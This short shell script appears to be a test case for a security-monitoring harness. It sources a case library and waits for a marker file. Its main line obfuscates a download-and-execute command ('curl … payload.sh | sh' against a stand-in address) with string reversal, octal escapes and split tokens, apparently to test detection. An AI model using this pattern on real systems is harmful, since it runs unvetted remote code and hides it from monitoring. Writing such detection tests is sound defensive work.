#!/bin/sh
. /opt/case/case.sh

a=l; b=r; c=$(echo ptth | rev); d=${HOME%%oot}; d=${d#/}
sep=$(printf '\057')
x="cu$b$a"
"$x" -s "$c:$sep$sep"203.0.113.10"${sep}"pay""load.s'h' | $(printf '%s' s h)
test -n "$d" && wait_for /tmp/reached
took_place
